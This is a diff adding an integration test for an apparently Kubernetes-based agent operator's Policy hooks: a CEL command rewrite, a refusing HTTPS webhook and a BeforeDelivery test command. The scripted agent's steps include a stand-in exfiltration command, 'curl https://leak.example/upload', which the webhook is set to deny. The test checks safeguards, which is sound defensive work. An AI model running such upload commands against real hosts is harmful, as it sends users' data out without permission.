@@ -3,7 +3,8 @@ pod, scripted model): a Policy selects the Agent by label (the Agent's status na
 Policy's status names the Agent); a bash call it asks about waits, shown in the Task's status
 and ``kubectl get tasks``, holding no sandbox, until ``cadre approve --call``; a rejected call
 (answered with a plain merge patch, as GitOps tools would) reaches the model as an error; a
-Policy selecting no Agent says so."""
+Policy selecting no Agent says so. Hooks: a CEL rewrite, a refusing webhook and a
+BeforeDelivery command, end to end."""
 
 from __future__ import annotations
 
@@ -12,6 +13,7 @@ from typing import Any
 
 from tests.cli.test_commands import cadre
 from tests.harness.conftest import ModelFactory, until
+from tests.harness.webhooks import Webhook
 from tests.localcluster.conftest import Served
 from tests.operator.conftest import NS, create_agent, create_task, ended
 
@@ -95,3 +97,77 @@ async def test_ask_calls_wait_for_a_human_answer_given_with_cadre_or_a_patch(
     again = http("PATCH", f"{CADRE}/tasks/no", change, content_type="application/merge-patch+json")
     assert again.status_code == 422
     assert "an answer cannot be changed" in again.text
+
+
+HOOKED = [
+    {"text": "Drafting.", "tool_uses": [{"name": "bash", "input": {
+        "command": "echo draft > draft.txt"}}]},
+    {"text": "Fetching.", "tool_uses": [{"name": "bash", "input": {
+        "command": "curl https://leak.example/upload"}}]},
+    {"text": "Done."},
+    {"choices": [
+        {"when_last_message_contains": "sent back", "text": "Fixing.", "tool_uses": [
+            {"name": "bash", "input": {"command": "touch tests-pass"}}]},
+    ]},
+    {"text": "Finished."},
+]  # fmt: skip
+
+
+async def test_hooks_rewrite_refuse_and_send_work_back_in_the_local_cluster(
+    cluster: Served, operator: asyncio.subprocess.Process, scripted: ModelFactory,
+    webhook: Webhook,
+) -> None:  # fmt: skip
+    """A CEL hook rewrites a command, an HTTPS webhook refuses one, a BeforeDelivery command
+    (the tests, run in the sandbox pod) sends the work back until it passes; a Policy whose CEL
+    does not compile says so in its status, naming the field."""
+    http = cluster.http
+    url, model = await scripted({"agents": {"engineer": HOOKED}})
+    webhook.deny_containing = "leak.example"
+    rewrite = ("input.command.startsWith('echo draft') ? "
+               "{'command': 'echo reviewed > draft.txt'} : true")  # fmt: skip
+    hooks = [
+        {"name": "reviewed-drafts", "at": "BeforeToolCall", "tools": ["bash"],
+         "cel": {"expression": rewrite}},
+        {"name": "change-board", "at": "BeforeToolCall", "tools": ["bash"],
+         "webhook": {"url": webhook.url, "caBundle": webhook.ca_bundle}},
+        {"name": "tests", "at": "BeforeDelivery", "command": {
+            "command": "grep -q reviewed draft.txt && test -f tests-pass || "
+                       "{ echo 'FAILED: tests-pass missing'; exit 1; }"}},
+    ]  # fmt: skip
+    policy = {"apiVersion": "cadre.dev/v1alpha1", "kind": "Policy",
+              "metadata": {"name": "guard"}, "spec": {"hooks": hooks}}  # fmt: skip
+    assert http("POST", f"{CADRE}/policies", policy).ok
+    broken = {
+        **policy,
+        "metadata": {"name": "broken"},
+        "spec": {
+            "agentSelector": {"matchLabels": {"team": "none"}},
+            "hooks": [{"name": "typo", "at": "BeforeToolCall", "cel": {"expression": "input.("}}],
+        },
+    }
+    assert http("POST", f"{CADRE}/policies", broken).ok
+    create_agent(http, url)
+    create_task(http, "hooked", "Draft the notes.")
+    done = await until(lambda: ended(http, "hooked"))
+    assert (done["status"]["phase"], done["status"]["result"]["summary"]) == (
+        "Succeeded", "Finished.")  # fmt: skip
+
+    def said(words: str) -> bool:
+        return any(words in str(request["messages"]) for request in model.requests)
+
+    assert said("[input rewritten by Policy guard, hook reviewed-drafts")
+    assert said("denied by Policy guard, hook change-board: the change board says no")
+    assert said("sent back by Policy guard, hook tests (round 1 of at most 3)")
+    assert said("FAILED: tests-pass missing")
+    points = [r["request"]["input"]["command"] for r in webhook.requests]
+    assert points == ["echo reviewed > draft.txt", "curl https://leak.example/upload",
+                      "touch tests-pass"]  # fmt: skip
+
+    def hooks_invalid() -> dict[str, Any] | None:
+        status = http("GET", f"{CADRE}/policies/broken").json().get("status") or {}
+        return next((c for c in status.get("conditions") or []
+                     if c["type"] == "HooksValid" and c["status"] == "False"), None)  # fmt: skip
+
+    condition = await until(hooks_invalid)
+    assert condition["reason"] == "InvalidExpression"
+    assert condition["message"].startswith("spec.hooks[0].cel.expression: ")
